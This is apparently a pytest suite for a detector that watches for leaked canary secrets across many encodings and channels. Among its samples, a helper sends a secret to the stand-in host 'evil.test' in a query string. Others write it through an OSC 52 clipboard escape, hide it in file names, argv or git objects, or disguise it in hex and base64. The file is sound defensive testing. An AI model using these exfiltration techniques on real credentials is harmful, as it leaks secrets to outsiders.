"""The oracle catches a leak on purpose in each channel and each spelling, and nothing where there is none."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.oracle import SHAPES, Oracle, watch


@pytest.fixture
def seen(tmp_path: Path) -> Iterator[Oracle]:
    (tmp_path / "old").write_text("there before")
    with watch({"tmp": tmp_path}) as made:
        yield made


SPELLINGS: dict[str, Callable[[str], bytes]] = {
    "raw": str.encode,
    "in the middle of a word": lambda v: b"abc" + v.encode() + b"def",
    "twelve characters of it": lambda v: v[5:17].encode(),
    "URL": lambda v: quote(v, safe="").encode(),
    "JSON": lambda v: json.dumps({"k": v}).encode(),
    "hex": lambda v: v.encode().hex().encode(),
    "HEX": lambda v: v.encode().hex().upper().encode(),
    "reversed": lambda v: v[::-1].encode(),
    "UTF-16": lambda v: v.encode("utf-16"),
    "base64": lambda v: base64.b64encode(v.encode()),
    "base64, one before": lambda v: base64.b64encode(b":" + v.encode()),
    "base64, two before": lambda v: base64.b64encode(b"u:" + v.encode() + b"more"),
    "base64 for URLs": lambda v: base64.urlsafe_b64encode(b"user:" + v.encode()),
}


@pytest.mark.parametrize("shape", ["stripe", "difficult"])
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_value_is_found_however_it_is_written(seen: Oracle, spelling: str, shape: str) -> None:
    core = seen.canary(shape).removeprefix("sk_test_")
    seen.saw("stdout", b"x " + SPELLINGS[spelling](core) + b" y")
    assert {leak.channel for leak in seen.leaks()} == {"stdout"}
    with pytest.raises(AssertionError, match="in stdout") as raised:
        seen.check()
    assert core[:12] not in str(raised.value)


@pytest.mark.parametrize("shape", SHAPES)
def test_nothing_is_found_where_there_is_nothing(seen: Oracle, tmp_path: Path, shape: str) -> None:
    seen.canary(shape)
    (tmp_path / "new").write_text(
        "sk_test_ whsec_ postgresql://neondb_owner:npg_@ep-cool-rain-123456 /services/T00000000"
    )
    seen.saw("stdout", SHAPES[shape])
    seen.sent("api.stripe.com", b"Authorization: Bearer sk_test_")
    seen.check()


def leak_file(seen: Oracle, value: str, folder: Path) -> None:
    (folder / "deep").mkdir()
    (folder / "deep" / ".log").write_text(value)


def leak_changed_file(seen: Oracle, value: str, folder: Path) -> None:
    with (folder / "old").open("a") as file:
        file.write(value)


def leak_file_name(seen: Oracle, value: str, folder: Path) -> None:
    (folder / value).touch()


def leak_argv(seen: Oracle, value: str, folder: Path) -> None:
    subprocess.run([sys.executable, "-c", "import time; time.sleep(0.3)", value], check=True)


def leak_git(seen: Oracle, value: str, folder: Path) -> None:
    git = shutil.which("git")
    assert git
    subprocess.run([git, "init", "-q", str(folder / "repo")], check=True)
    words = [git, "-C", str(folder / "repo"), "hash-object", "-w", "--stdin"]
    subprocess.run(words, input=value.encode(), check=True, capture_output=True)


def leak_clipboard(seen: Oracle, value: str, folder: Path) -> None:
    with seen.terminal() as terminal:
        terminal.write(b"\x1b]52;c;" + base64.b64encode(value.encode()) + b"\x07")


def leak_terminal(seen: Oracle, value: str, folder: Path) -> None:
    with seen.terminal() as terminal:
        for char in value:
            terminal.write(char.encode() + b"\x1b[0m")
        terminal.write(b"\x1b[2J")


def leak_screen(seen: Oracle, value: str, folder: Path) -> None:
    terminal = seen.terminal(columns=20, rows=10)
    for row, at in enumerate(range(0, len(value), 8), 2):
        terminal.write(f"\x1b[{row};3H│ {value[at : at + 8]} │".encode())


def leak_host(seen: Oracle, value: str, folder: Path) -> None:
    seen.sent("evil.test", f"GET /?k={quote(value)}".encode())


LEAKS = {
    "file:tmp/deep/.log": leak_file,
    "file:tmp/old": leak_changed_file,
    "name of file:tmp/*": leak_file_name,
    "argv": leak_argv,
    "git:tmp/repo": leak_git,
    "clipboard": leak_clipboard,
    "terminal": leak_terminal,
    "screen": leak_screen,
    "host:evil.test": leak_host,
}


@pytest.mark.parametrize("channel", LEAKS)
def test_a_leak_is_found_in_each_channel(seen: Oracle, tmp_path: Path, channel: str) -> None:
    LEAKS[channel](seen, seen.canary("stripe"), tmp_path)
    assert any(leak.channel.startswith(channel.rstrip("*")) for leak in seen.leaks())


@pytest.mark.parametrize("channel", LEAKS)
def test_what_is_allowed_in_a_channel_is_allowed_there_alone(seen: Oracle, tmp_path: Path, channel: str) -> None:
    value = seen.canary("stripe", allowed=(channel, "screen", "terminal", "clipboard"))
    LEAKS[channel](seen, value, tmp_path)
    assert not seen.leaks()
    seen.saw("stderr", value)
    assert {leak.channel for leak in seen.leaks()} == {"stderr"}


def test_each_value_is_fresh(seen: Oracle) -> None:
    assert len({seen.canary("stripe") for _ in range(100)}) == 100


def test_a_value_made_elsewhere_is_looked_for_too(seen: Oracle) -> None:
    seen.know("whsec_" + "0123456789abcdef" * 4, name="captured")
    seen.saw("log", b"signing secret whsec_0123456789abcdef")
    assert {leak.value for leak in seen.leaks()} == {"captured"}
